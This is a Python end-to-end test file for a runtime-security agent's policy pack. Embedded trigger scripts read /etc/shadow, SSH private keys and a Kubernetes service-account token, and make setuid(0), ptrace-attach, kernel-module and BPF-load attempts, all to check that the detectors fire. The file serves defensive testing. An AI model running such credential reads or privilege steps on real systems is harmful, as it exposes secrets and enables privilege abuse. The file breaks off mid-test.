#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""The default policy pack (policies/*.yaml), end to end: each policy loaded from its file
into the real agent, a real trigger for what it catches (syscalls made for real, with nothing
on the host left changed), and assertions on the exported events; then the whole pack
together: it loads, stays silent for ordinary activity, and is quiet on an idle machine."""
import collections
import ctypes
import glob
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from hornet import HORNET, ROOT, Agent, Fail, check, features, run, skip, test  # noqa: E402
from hornet import program_needs  # noqa: E402

# every test here loads a TracingPolicy: the policy engine needs bpf_loop() (Linux 5.17)
program_needs("bpf_loop")

PACK = os.path.join(ROOT, "policies")
PY = "/usr/bin/python3"
PYBIN = os.path.realpath(PY)
CAT = os.path.realpath("/bin/cat")
TRUE = os.path.realpath("/bin/true")
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
EVENT_KINDS = ("process_kprobe", "process_tracepoint", "process_lsm", "process_uprobe")

# The preamble of the triggers: raw syscalls through ctypes.
LIBC = r'''
import ctypes, json, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def ok(r, what):
    if r != 0:
        e = ctypes.get_errno()
        raise OSError(e, "%s: %s" % (what, os.strerror(e)))
CLONE_NEWNS, CLONE_NEWUTS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x04000000, 0x10000000, 0x40000000
MS_REC, MS_PRIVATE = 0x4000, 1 << 18
def private_mounts(*dirs):
    """A mount namespace of our own, with empty tmpfs over dirs: the host sees nothing."""
    ok(libc.unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)")
    ok(libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None), "mount --make-rprivate /")
    for d in dirs:
        ok(libc.mount(b"hornet-pack-test", d.encode(), b"tmpfs", 0, b"size=1m"), "tmpfs on " + d)
def put(path, data=b"hornet pack test\n"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
def read(path):
    fd = os.open(path, os.O_RDONLY)
    os.read(fd, 64)
    os.close(fd)
'''


def pack_path(fname):
    path = os.path.join(PACK, fname)
    if not os.path.isdir(PACK):
        skip("%s does not exist (scripts/vmtest.sh copies tests/ into the VM, not policies/)" %
             PACK)
    check(os.path.exists(path), "%s is missing" % path)
    return path


def pack_agent(*args):
    """An agent that may take a while to start: with the whole pack, `hornet status` does not
    answer until every policy is loaded (about 9 s here, two minutes under TCG)."""
    return Agent(*args, ready_timeout=300)


def policy_names(pattern="*.yaml"):
    """{file name: metadata.name} of every policy of the pack (or of those matching
    @pattern, relative to policies/)."""
    names = {}
    for path in sorted(glob.glob(os.path.join(PACK, pattern))):
        with open(path) as f:
            m = re.search(r"^metadata:\n  name: *\"?([a-z0-9.-]+)", f.read(), re.M)
        check(m, "%s: no metadata.name" % path)
        names[os.path.relpath(path, PACK)] = m.group(1)
    return names


def start(*fnames):
    """An agent with these policy files of the pack loaded, each checked enabled: the agent
    with the whole pack, shared, for files of the pack itself (the pack's policies are
    verified once, not once more per test: minutes under TCG; each test selects the events
    of its policy and its processes), an agent of their own for the variants."""
    if all(f in policy_names() for f in fnames):
        a = start_pack()
    else:
        args = []
        for f in fnames:
            args += ["--policy", pack_path(f)]
        a = pack_agent(*args)
    pols = a.policies()
    known = dict(policy_names(), **policy_names("variants/*.yaml"))
    for f in fnames:
        name = known[f]
        check(name in pols and pols[name]["state"] == "enabled", "%s: %r" % (f, pols.get(name)))
    return a


_pack_agent = None


def start_pack():
    """An agent with the whole pack (--policy-dir policies/), every policy checked enabled
    but hornet-dangerous-capabilities where the kernel has no capability tracepoint.
    The whole-pack tests share one such agent: loading the pack takes about 10 s here and
    two minutes under TCG in the VM. Each test filters the events by its own processes."""
    global _pack_agent
    pack_path(".")
    if _pack_agent and _pack_agent.proc.poll() is None:
        _pack_agent.events()
        return _pack_agent
    a = pack_agent("--policy-dir", PACK)
    a.shared = True
    _pack_agent = a
    bad = {n: p.get("error") for n, p in a.policies().items() if p["state"] != "enabled" and
           not (n == "hornet-dangerous-capabilities" and
                "no tracepoint capability/cap_capable" in p.get("error", ""))}
    check(not bad, "policies not loaded: %r" % bad)
    return a


_names = None


def is_pack(body):
    """Whether a policy event comes from one of the pack's policies (by name: hornet's own
    sensors may use names starting with hornet- too)."""
    global _names
    if _names is None:
        _names = set(policy_names().values()) | set(policy_names("variants/*.yaml").values())
    return body.get("policy_name") in _names


def pack_events(a, policy=None, pid=None):
    """The bodies of the pack's events, optionally of one policy and one process."""
    out = []
    for ev in a.events():
        for k in EVENT_KINDS:
            b = ev.get(k)
            if not b or not is_pack(b):
                continue
            if policy is not None and b["policy_name"] != policy:
                continue
            if pid is not None and b["process"]["pid"] != pid:
                continue
            out.append(b)
    return out


def fn(ev):
    return ev.get("function_name") or ev.get("event")


def wait_events(a, policy, pred, n=1, timeout=10):
    """The events of @policy for which pred(ev) holds, once there are @n of them (or the
    timeout has passed)."""
    deadline = time.monotonic() + timeout
    while True:
        evs = [e for e in pack_events(a, policy) if pred(e)]
        if len(evs) >= n or time.monotonic() > deadline:
            return evs
        time.sleep(0.05)


def settle(a):
    """Waits until the agent has exported what it had: events of a trigger that already
    returned are there once an event made after it is."""
    time.sleep(0.3)
    marker = subprocess.Popen([TRUE])
    marker.wait()
    a.wait_for(lambda e: "process_exit" in e and e["process_exit"]["process"]["pid"] == marker.pid,
               what="exit of the marker process")


class Run:
    """A finished trigger process: its pid, exit code and output."""

    def __init__(self, argv, check_rc=True, timeout=60, **kw):
        p = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)
        try:
            out, err = p.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            p.kill()
            try:
                err = p.communicate(timeout=5)[1].decode(errors="replace").strip()[-600:]
            except subprocess.TimeoutExpired:      # a child of the trigger holds the pipes
                err = "(its output is held by a child of it)"
            raise Fail("%s ran past %d s: %s" % (" ".join(argv)[-200:], timeout, err))
        self.pid, self.rc = p.pid, p.returncode
        self.out, self.err = out.decode(errors="replace"), err.decode(errors="replace")
        if check_rc and self.rc != 0:
            raise Fail("%s exited with %d: %s" % (" ".join(argv)[:200], self.rc,
                                                    self.err.strip()[-600:]))

    def json(self):
        return json.loads(self.out.strip().splitlines()[-1])


def py(code, *args, user=False, **kw):
    """Runs LIBC + code in /usr/bin/python3 (as nobody with user=True)."""
    argv = [PY, "-c", LIBC + code] + [str(x) for x in args]
    return Run(NOBODY + argv if user else argv, **kw)


def tmpdir(where="/var/tmp"):
    d = tempfile.mkdtemp(prefix="hornet-pack-", dir=where)
    os.chmod(d, 0o755)
    return d


def one(evs, what):
    check(len(evs) == 1, "%d events for %s, want 1: %r" % (len(evs), what, evs[:3]))
    return evs[0]


def ret_path(ev):
    return (ev.get("return") or {}).get("file_arg", {}).get("path")


def vfs_open_apart(evs):
    """sensitive-file-reads' events split into those of its syscall hooks and those of its
    vfs_open hook (kernels with kprobes or fentry only: the planner skips it elsewhere), with
    the paths of the latter (from the root of the file's file system)."""
    vfs = [e for e in evs if fn(e) == "vfs_open"]
    check(features().get("kprobe") or not vfs, "vfs_open events on a kernel without kprobes")
    return ([e for e in evs if fn(e) != "vfs_open"],
            [e["args"][0].get("path_arg", {}).get("path") for e in vfs])


def out(line):
    print("    " + line, flush=True)


# --- 1. reads of credentials and secrets --------------------------------------------------

SECRET_READS = r'''
home = sys.argv[1]
# an SSH user key in a home directory, on the host
put(home + "/.ssh/id_ed25519")
read(home + "/.ssh/id_ed25519")
# the real /etc/shadow: directly, through a symlink, through "..", with open(2)
if os.path.exists("/etc/shadow"):
    read("/etc/shadow")
    os.symlink("/etc/shadow", home + "/innocent")
    read(home + "/innocent")
    os.chdir("/etc/ssh" if os.path.isdir("/etc/ssh") else "/etc")
    read("../shadow" if os.getcwd() == "/etc/ssh" else "./shadow")
    fd = libc.syscall(2, b"/etc/shadow", 0, 0)
    assert fd >= 0, ctypes.get_errno()
    os.close(fd)
# the rest in a mount namespace of our own with empty /etc and /run: nothing on the host changes
private_mounts("/etc", "/run")
put("/etc/shadow")
put("/etc/sudoers")
put("/etc/sudoers.d/hornet-pack-test")
put("/etc/ssh/ssh_host_ed25519_key")
put("/etc/ssh/ssh_host_ed25519_key.pub")
put("/etc/hostname")
# a Kubernetes service account, laid out as the kubelet does it (symlinks into a dated dir)
sa = "/run/secrets/kubernetes.io/serviceaccount"
put(sa + "/..2026_11_29_00_00_00.000000001/token")
os.symlink("..2026_11_29_00_00_00.000000001", sa + "/..data")
os.symlink("..data/token", sa + "/token")
token = ("/var/run" if os.path.realpath("/var/run") == "/run" else "/run") + \
    "/secrets/kubernetes.io/serviceaccount/token"
for p in ["/etc/sudoers", "/etc/sudoers.d/hornet-pack-test", "/etc/ssh/ssh_host_ed25519_key",
          token, "/etc/ssh/ssh_host_ed25519_key.pub", "/etc/hostname"]:
    read(p)
# opened for writing: not a read
os.close(os.open("/etc/shadow", os.O_RDWR))
os.close(os.open("/etc/sudoers", os.O_WRONLY))
print(json.dumps({"shadow": os.path.exists("/etc/shadow")}))
'''


@test("sensitive_file_reads")
def _():
    a = start("sensitive-file-reads.yaml")
    pol = "hornet-sensitive-file-reads"
    d = tmpdir()
    try:
        host_shadow = os.path.exists("/etc/shadow")
        r = py(SECRET_READS, d)
        want = [d + "/.ssh/id_ed25519", "/etc/sudoers", "/etc/sudoers.d/hornet-pack-test",
                "/etc/ssh/ssh_host_ed25519_key",
                "/run/secrets/kubernetes.io/serviceaccount/..2026_11_29_00_00_00.000000001/token"]
        n = len(want) + (4 if host_shadow else 0)
        evs = wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=n)
        settle(a)
        evs = pack_events(a, pol, pid=r.pid)
        for e in evs:
            check(e["process"]["binary"] == PYBIN, "binary %r" % e["process"]["binary"])
            flags = list(e["args"][1].values())[0] if len(e["args"]) > 1 else 0
            check(flags & 3 == 0, "an open for writing was reported: %r" % e)
        evs, vfs = vfs_open_apart(evs)
        # every open the syscall hooks report, vfs_open sees too, by the path in its own
        # file system: the namespace's tmpfs /etc and /run files are not under /etc there
        if features().get("kprobe"):
            check(any(p.endswith("/.ssh/id_ed25519") for p in vfs) and
                  (not host_shadow or vfs.count("/etc/shadow") == 4),
                  "vfs_open: %r" % vfs)
        got = [ret_path(e) for e in evs]
        for p in want:
            check(p in got, "no event for the read of %s; got %r" % (p, got))
        k8s = [e for e in evs if ret_path(e) == want[-1]]
        check(k8s[0]["args"][0]["string_arg"] in
              ("/var/run/secrets/kubernetes.io/serviceaccount/token",
               "/run/secrets/kubernetes.io/serviceaccount/token"), "k8s %r" % k8s[0]["args"])
        check(not [p for p in got if p.endswith(".pub") or p == "/etc/hostname"],
              "an unrelated file was reported: %r" % got)
        check(k8s[0]["message"] == "sensitive file opened for reading", "message %r" % k8s[0])
        if host_shadow:
            sh = [e for e in evs if ret_path(e) == "/etc/shadow"]
            asked = sorted((fn(e), e["args"][0]["string_arg"]) for e in sh)
            check(("__x64_sys_openat", d + "/innocent") in asked,
                  "the symlink to /etc/shadow was not reported as /etc/shadow: %r" % asked)
            check(any(s.endswith("/../shadow") or s == "/etc/./shadow" for _, s in asked),
                  "the relative path to /etc/shadow was not reported: %r" % asked)
            check(("__x64_sys_open", "/etc/shadow") in asked, "open(2) missing: %r" % asked)
            # the host's four reads; the namespace's own /etc/shadow was only opened O_RDWR
            check(len(sh) == 4, "%d events for /etc/shadow, want 4 (the O_RDWR open is not a "
                  "read): %r" % (len(sh), asked))
        else:
            check(not [e for e in evs if ret_path(e) == "/etc/shadow"],
                  "the O_RDWR open of /etc/shadow was reported")
        check(not [e for e in evs if ret_path(e) == "/etc/sudoers" and
                   list(e["args"][1].values())[0] & 3], "the O_WRONLY open was reported")
        check(len([e for e in evs if ret_path(e) == "/etc/sudoers"]) == 1,
              "/etc/sudoers: %r" % [e for e in evs if ret_path(e) == "/etc/sudoers"])
    finally:
        shutil.rmtree(d)


# --- 2. writes below /etc, /bin, /sbin, /usr/bin, /usr/sbin, /boot, /lib --------------------

SYSTEM_WRITES = r'''
base = sys.argv[1]
fd = os.open(base, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
os.write(fd, b"x")
os.close(fd)
os.chmod(base, 0o640)
os.chown(base, 0, 0)
os.truncate(base, 0)
fd = os.open(base, os.O_RDONLY)
os.fchmod(fd, 0o600)
os.fchown(fd, 0, 0)
os.close(fd)
os.rename(base, base + ".renamed")
os.unlink(base + ".renamed")
# relative to the cwd
os.chdir("/etc")
rel = os.path.basename(base) + ".rel"
os.close(os.open(rel, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
os.unlink(rel)
read("/etc/hostname")                           # a read: not reported
'''

BIN_SYMLINK_WRITE = r'''
# /bin is a symlink to /usr/bin here: an empty /usr/bin of our own, written through /bin
private_mounts("/usr/bin")
os.close(os.open("/bin/hornet-pack-test", os.O_WRONLY | os.O_CREAT, 0o755))
os.unlink("/bin/hornet-pack-test")
'''


@test("system_file_writes")
def _():
    a = start("system-file-writes.yaml")
    pol = "hornet-system-file-writes"
    base = tempfile.mktemp(prefix="hornet-pack-test-", dir="/etc")
    try:
        r = py(SYSTEM_WRITES, base)
        rel = "/etc/" + os.path.basename(base) + ".rel"
        want = [("__x64_sys_openat", base), ("__x64_sys_chmod", base), ("__x64_sys_chown", base),
                ("__x64_sys_truncate", base), ("__x64_sys_fchmod", base),
                ("__x64_sys_fchown", base), ("__x64_sys_rename", base),
                ("__x64_sys_unlink", base + ".renamed"), ("__x64_sys_openat", rel),
                ("__x64_sys_unlink", rel)]
        wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=len(want))
        settle(a)
        evs = pack_events(a, pol, pid=r.pid)

        def path_of(e):
            if e.get("return"):
                return ret_path(e)
            v = e["args"][0]
            return v.get("string_arg") or v.get("file_arg", {}).get("path")
        got = [(fn(e), path_of(e)) for e in evs]
        check(got == want, "events %r, want %r" % (got, want))
        check(all(e["process"]["binary"] == PYBIN for e in evs), "binaries")
        chmod = evs[1]
        check(chmod["args"][1] == {"int_arg": 0o640}, "chmod args %r" % chmod["args"])
        check(evs[6]["args"][1] == {"string_arg": base + ".renamed"}, "rename %r" % evs[6]["args"])
        check(evs[0]["args"][1]["int_arg"] & os.O_CREAT, "flags %r" % evs[0]["args"])
        check(evs[8]["args"][0] == {"string_arg": rel}, "relative path not made absolute: %r" %
              evs[8]["args"])
        check(evs[0]["message"] == "system file opened for writing", "message %r" % evs[0])
        if os.path.realpath("/bin") == "/usr/bin":
            r = py(BIN_SYMLINK_WRITE)
            evs = wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=2)
            got = sorted((fn(e), path_of(e)) for e in evs)
            check(got == [("__x64_sys_openat", "/usr/bin/hornet-pack-test"),
                          ("__x64_sys_unlink", "/bin/hornet-pack-test")],
                  "writes through /bin: %r" % got)
    finally:
        for p in glob.glob(base + "*") + glob.glob("/etc/" + os.path.basename(base) + "*"):
            os.unlink(p)


# --- 3. the setuid family and capset ------------------------------------------------------

TRY_SETUID_0 = r'''
try:
    os.setuid(0)
    print("setuid(0) worked")
except PermissionError:
    print("EPERM")
'''

ROOT_IDS = r'''
os.setresgid(0, 0, 0)
os.setregid(0, 0)
os.setgid(0)
for _ in range(3):
    os.seteuid(0)                       # setresuid(-1, 0, -1): rate-limited machine-wide
hdr = ctypes.create_string_buffer(struct.pack("<Ii", 0x20080522, 0), 8)
data = ctypes.create_string_buffer(24)
ok(libc.capget(hdr, data), "capget")
ok(libc.capset(hdr, data), "capset")
'''


@test("setuid_calls")
def _():
    a = start("setuid-calls.yaml")
    pol = "hornet-setuid-calls"
    r = py(TRY_SETUID_0, user=True)
    check(r.out.strip() == "EPERM", "nobody's setuid(0): %r" % r.out)
    ev = one(wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid and
                         e["process"]["binary"] == PYBIN), "nobody's setuid(0)")
    check(fn(ev) == "__x64_sys_setuid" and ev["args"] == [{"int_arg": 0}], "event %r" % ev)
    check(ev["process"]["uid"] == 65534, "uid %r" % ev["process"]["uid"])
    check(ev["message"] == "user or group id change", "message %r" % ev.get("message"))
    r = py(ROOT_IDS)
    wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=4)
    settle(a)
    got = [(fn(e), e["args"]) for e in pack_events(a, pol, pid=r.pid)]
    for want in [("__x64_sys_setresgid", [{"int_arg": 0}] * 3),
                 ("__x64_sys_setregid", [{"int_arg": 0}] * 2),
                 ("__x64_sys_setgid", [{"int_arg": 0}]), ("__x64_sys_capset", [])]:
        check(got.count(want) == 1, "want one %r in %r" % (want, got))
    seteuid = [g for g in got if g[0] == "__x64_sys_setresuid"]
    check(len(seteuid) <= 1, "3 seteuid(0) by root, %d events (rate limit)" % len(seteuid))


# --- 4. setuid and setgid files ----------------------------------------------------------

@test("setuid_bit_and_setuid_exec")
def _():
    a = start("setuid-bit.yaml")
    pol = "hornet-setuid-bit"
    d = tmpdir()
    try:
        idcopy = os.path.join(d, "id")
        shutil.copy(os.path.realpath("/usr/bin/id"), idcopy)
        ch = Run(["chmod", "4755", idcopy])                     # coreutils: fchmodat
        ev = one(wait_events(a, pol, lambda e: e["process"]["pid"] == ch.pid), "chmod 4755")
        check(ev["args"][1] == {"int_arg": 0o4755} and ev["args"][0]["string_arg"] == idcopy,
              "chmod event %r" % ev)
        open(d + "/x", "w").close()
        r = py("os.chmod(sys.argv[1], 0o2755)\nos.chmod(sys.argv[1], 0o755)\n"
               "fd = os.open(sys.argv[1], os.O_RDONLY)\nos.fchmod(fd, 0o6755)\n", d + "/x")
        wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=2)
        settle(a)
        got = [(fn(e), e["args"][1]["int_arg"]) for e in pack_events(a, pol, pid=r.pid)]
        check(got == [("__x64_sys_chmod", 0o2755), ("__x64_sys_fchmod", 0o6755)],
              "events %r (chmod 0755 must not be reported)" % got)
        # running it: the exec event says so (no policy can, see policies/setuid-bit.yaml)
        # through a shell: setpriv keeps its capabilities across setresuid
        # (keep-caps), so only a process exec'd as nobody has none to raise
        x = Run(NOBODY + ["/bin/sh", "-c", idcopy + " -u; true"])
        check(x.out.strip() == "0", "the setuid copy of id ran with euid %r" % x.out)
        ex = a.wait_for(lambda e: "process_exec" in e and
                        e["process_exec"]["process"]["uid"] == 65534 and
                        e["process_exec"]["process"]["binary"] == idcopy, what="exec of the copy")
        props = ex["process_exec"]["process"].get("binary_properties", {})
        check(props.get("setuid") == 0 and
              "PRIVILEGES_RAISED_EXEC_FILE_SETUID" in props.get("privileges_changed", []),
              "binary_properties %r" % props)
    finally:
        shutil.rmtree(d)


# --- 5. dangerous capabilities -----------------------------------------------------------

IFUP_LO = r'''
import fcntl, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):          # three CAP_NET_ADMIN checks: one event (rate limit)
    fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", 0x1 | 0x8 | 0x40))  # SIOCSIFFLAGS up
'''

CAPS_IN_USERNS = r'''
ok(libc.unshare(CLONE_NEWUSER), "unshare(CLONE_NEWUSER)")   # all capabilities, in there
ok(libc.unshare(CLONE_NEWNET), "unshare(CLONE_NEWNET)")     # CAP_SYS_ADMIN over the new userns
''' + IFUP_LO

CAPS_ON_HOST = r'''
ok(libc.unshare(CLONE_NEWNET), "unshare(CLONE_NEWNET)")     # CAP_SYS_ADMIN, host: not reported
''' + IFUP_LO                                               # CAP_NET_ADMIN, host: reported


CAP_VARIANT = "variants/dangerous-capabilities-kprobe.yaml"


def cap_policy_file():
    """dangerous-capabilities.yaml, or its kprobe variant on kernels without the tracepoint
    capability/cap_capable."""
    r = subprocess.run([HORNET, "policy", "check", pack_path("dangerous-capabilities.yaml")],
                       capture_output=True, timeout=60)
    if r.returncode == 0:
        return "dangerous-capabilities.yaml"
    why = (r.stdout + r.stderr).decode()
    check("no tracepoint capability/cap_capable" in why, "policy check: %s" % why)
    out("no tracepoint capability/cap_capable on this kernel: testing %s" % CAP_VARIANT)
    return CAP_VARIANT


def cap_use(ev):
    """(capability, result, user namespace level) of a hornet-dangerous-capabilities event,
    from the tracepoint (args: cap, ret, target_ns) or the kprobe variant (args: cap,
    target_ns; the result in return)."""
    if ev.get("event") == "cap_capable":
        return (ev["args"][0]["capability_arg"]["name"], ev["args"][1]["int_arg"],
                ev["args"][2]["user_ns_arg"]["level"])
    return (ev["args"][0]["capability_arg"]["name"], ev["return"]["int_arg"],
            ev["args"][1]["user_ns_arg"]["level"])


@test("dangerous_capabilities")
def _():
    a = start(cap_policy_file())
    pol = "hornet-dangerous-capabilities"
    r = py(CAPS_IN_USERNS)
    h = py(CAPS_ON_HOST)
    c = Run([CAT, "/etc/hostname"])    # root, host: CAP_SYS_ADMIN checks at every mmap
    wait_events(a, pol, lambda e: e["process"]["pid"] in (r.pid, h.pid), n=3)
    settle(a)

    def caps(pid):
        return sorted(cap_use(e) for e in pack_events(a, pol, pid=pid))
    check(caps(r.pid) == [("CAP_NET_ADMIN", 0, 1), ("CAP_SYS_ADMIN", 0, 1)],
          "in a user namespace: %r" % caps(r.pid))
    check(caps(h.pid) == [("CAP_NET_ADMIN", 0, 0)], "on the host: %r" % caps(h.pid))
    check(caps(c.pid) == [], "cat was reported: %r" % caps(c.pid))
    ev = pack_events(a, pol, pid=r.pid)[0]
    check(fn(ev) == "cap_capable", "event %r" % ev)
    check(ev["process"]["binary"] == PYBIN, "binary %r" % ev["process"]["binary"])
    st = a.policies()[pol]["stats"]
    check(st["rate_limited"] >= 4, "the rate limit did not hold back the repeated checks: %r" % st)


# --- 6. namespaces ---------------------------------------------------------------------

NAMESPACES = r'''
def child_exits(pid):
    if pid == 0:
        os._exit(0)
    assert pid > 0, ctypes.get_errno()
    os.waitpid(pid, 0)
    return pid
# clone(CLONE_NEWUTS | SIGCHLD)
a = child_exits(libc.syscall(56, ctypes.c_ulong(CLONE_NEWUTS | 17), ctypes.c_ulong(0), None,
                             None, ctypes.c_ulong(0)))
# clone3 with struct clone_args {flags = CLONE_NEWUTS, exit_signal = SIGCHLD}
args = ctypes.create_string_buffer(struct.pack("<11Q", CLONE_NEWUTS, 0, 0, 0, 17, 0, 0, 0, 0,
                                               0, 0), 88)
b = child_exits(libc.syscall(435, args, ctypes.c_ulong(88)))
c = child_exits(os.fork())                                  # no namespace: not reported
ok(libc.unshare(CLONE_NEWUTS), "unshare")
fd = os.open("/proc/self/ns/uts", os.O_RDONLY)
ok(libc.setns(fd, CLONE_NEWUTS), "setns")
print(json.dumps({"clone": a, "clone3": b, "fork": c}))
'''


@test("namespace_changes")
def _():
    a = start("namespace-changes.yaml")
    pol = "hornet-namespace-changes"
    r = py(NAMESPACES)
    kids = r.json()
    wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid, n=4)
    settle(a)
    evs = pack_events(a, pol, pid=r.pid)
    got = [(fn(e), e["args"]) for e in evs]
    new = [g[1] for g in got if g[0] == "task_newtask"]
    check(new == [[{"int_arg": kids["clone"]}, {"size_arg": 0x04000000}],
                  [{"int_arg": kids["clone3"]}, {"size_arg": 0x04000000}]],
          "clone/clone3 events %r, children %r" % (new, kids))
    check(("__x64_sys_unshare", [{"size_arg": 0x04000000}]) in got, "unshare: %r" % got)
    setns = [g[1] for g in got if g[0] == "__x64_sys_setns"]
    check(len(setns) == 1 and setns[0][1] == {"int_arg": 0x04000000} and
          "file_arg" in setns[0][0], "setns %r" % setns)
    check(len(got) == 4, "unexpected events: %r" % got)
    check(all(e["process"]["binary"] == PYBIN for e in evs), "binaries")
    plain = Run([PY, "-c", "import subprocess; subprocess.run(['%s'])" % TRUE])
    settle(a)
    check(not pack_events(a, pol, pid=plain.pid), "a plain fork was reported")


# --- 7. kernel modules -----------------------------------------------------------------

MODULES = r'''
path = sys.argv[1]
put(path, b"\x7fELF but not a kernel module" + b"\0" * 64)  # written: a module file appears
fd = os.open(path, os.O_RDONLY)                             # opened to be loaded
res = {}
# never a real module: a garbage image fails (ENOEXEC), or ENOSYS without module support
res["finit_module"] = [libc.syscall(313, fd, b"", 0), ctypes.get_errno()]
img = ctypes.create_string_buffer(b"\x7fELF but not a kernel module", 64)
res["init_module"] = [libc.syscall(175, img, ctypes.c_ulong(64), b""), ctypes.get_errno()]
res["delete_module"] = [libc.syscall(176, b"hornet_pack_test_no_such_module", 0o4000),
                        ctypes.get_errno()]
print(json.dumps(res))
'''


@test("kernel_module_files")
def _():
    a = start("kernel-modules.yaml")
    pol = "hornet-kernel-modules"
    d = tmpdir()
    try:
        ko = os.path.join(d, "hornet-pack-test.ko")
        r = py(MODULES, ko)
        res = r.json()
        check(all(v[0] == -1 for v in res.values()), "a module syscall succeeded: %r" % res)
        evs = wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid and
                          fn(e) == "__x64_sys_openat", n=2)
        check(len(evs) == 2 and all(ret_path(e) == ko for e in evs), "events %r" % evs)
        check(evs[0]["args"][1]["int_arg"] & os.O_CREAT and
              evs[1]["args"][1]["int_arg"] & 3 == 0, "flags %r" % [e["args"] for e in evs])
        check(evs[0]["process"]["binary"] == PYBIN, "binary")
        c = Run([CAT, "/etc/hostname"])
        settle(a)
        check(not pack_events(a, pol, pid=c.pid), "cat /etc/hostname was reported")
    finally:
        shutil.rmtree(d)


@test("kernel_module_syscalls")
def _():
    a = start("kernel-modules.yaml")
    pol = "hornet-kernel-modules"
    hooks = [h.get("attached_to", "") for h in a.policies()[pol]["hooks"]]
    if not [h for h in hooks if "init_module" in h or h.endswith("_module")]:
        skip("this kernel has no module support (CONFIG_MODULES unset): init_module, "
             "finit_module and delete_module are sys_ni_syscall without syscall tracepoints, "
             "so the policy skipped their hooks (attached: %s)" % ", ".join(hooks))
    d = tmpdir()
    try:
        ko = os.path.join(d, "hornet-pack-test.ko")
        r = py(MODULES, ko)
        res = r.json()
        check(all(v[0] == -1 for v in res.values()), "a module syscall succeeded: %r" % res)
        evs = wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid and
                          "module" in fn(e), n=3)
        got = {fn(e): e["args"] for e in evs}
        check(set(got) == {"__x64_sys_finit_module", "__x64_sys_init_module",
                           "__x64_sys_delete_module"}, "events %r" % got)
        check(got["__x64_sys_finit_module"][0]["file_arg"]["path"] == ko, "finit %r" % got)
        check(got["__x64_sys_delete_module"][0] ==
              {"string_arg": "hornet_pack_test_no_such_module"}, "delete %r" % got)
    finally:
        shutil.rmtree(d)


# --- 8. BPF programs -------------------------------------------------------------------

BPF_LOAD = r'''
# BPF_PROG_LOAD of a socket filter the verifier refuses (r0 is never set): reported, not loaded
insns = ctypes.create_string_buffer(struct.pack("<BBhi", 0x95, 0, 0, 0) * 2, 16)   # exit; exit
lic = ctypes.create_string_buffer(b"GPL")
attr = struct.pack("<IIQQIIQII", 1, 2, ctypes.addressof(insns), ctypes.addressof(lic),
                   0, 0, 0, 0, 0) + b"hornet_pack_tst\0"
attr = ctypes.create_string_buffer(attr.ljust(144, b"\0"), 144)
r = libc.syscall(321, 5, attr, 144)
assert r == -1, "the program was loaded"
# BPF_MAP_CREATE with nonsense: not a program, not reported
m = ctypes.create_string_buffer(144)
assert libc.syscall(321, 0, m, 144) == -1
'''


@test("bpf_program_load")
def _():
    a = start("bpf-load.yaml")
    pol = "hornet-bpf-load"
    r = py(BPF_LOAD)
    wait_events(a, pol, lambda e: e["process"]["pid"] == r.pid)
    settle(a)
    ev = one(pack_events(a, pol, pid=r.pid), "one BPF_PROG_LOAD")
    check(ev["args"][0] == {"int_arg": 5}, "cmd %r" % ev["args"])
    check(ev["args"][1] == {"bpf_attr_arg": {"ProgType": "BPF_PROG_TYPE_SOCKET_FILTER",
                                             "InsnCnt": 2, "ProgName": "hornet_pack_tst"}},
          "attr %r" % ev["args"][1])
    check(ev["process"]["binary"] == PYBIN and fn(ev) == "__x64_sys_bpf", "event %r" % ev)


# --- 9. ptrace -------------------------------------------------------------------------

PTRACE = r'''
import subprocess
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 0, 16, 17, 0x4206
# The target must not hold our output, and is reaped by hand: Popen.kill() would take a ptrace
# stop that wait reports for an exit, and leave the target running.
t = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
try:
    assert libc.ptrace(PTRACE_ATTACH, t.pid, None, None) == 0, ctypes.get_errno()
    assert os.WIFSTOPPED(os.waitpid(t.pid, 0)[1])
    assert libc.ptrace(PTRACE_DETACH, t.pid, None, None) == 0, ctypes.get_errno()
    assert libc.ptrace(PTRACE_SEIZE, t.pid, None, None) == 0, ctypes.get_errno()
finally:
    os.kill(t.pid, 9)
    while not os.WIFSIGNALED(os.waitpid(t.pid, 0)[1]):
        pass
pid = os.fork()
if pid == 0:
    libc.ptrace(PTRACE_TRACEME, 0, None, None)
    os._exit(0)
os.waitpid(pid, 0)
print(json.dumps({"target": t.pid, "child": pid}))
'''


@test("ptrace_attach")
def _():
    a = start("ptrace.yaml")
    pol = "hornet-ptrace"
    r = py(PTRACE)
    ids = r.json()
    wait_events(a, pol, lambda e: e["process"]["pid"] in (r.pid, ids["child"]), n=3)
    settle(a)
    got = sorted((e["process"]["pid"], e["args"][0]["long_arg"], e["args"][1]["int_arg"])
                 for e in pack_events(a, pol) if e["process"]["pid"] in (r.pid, ids["child"]))
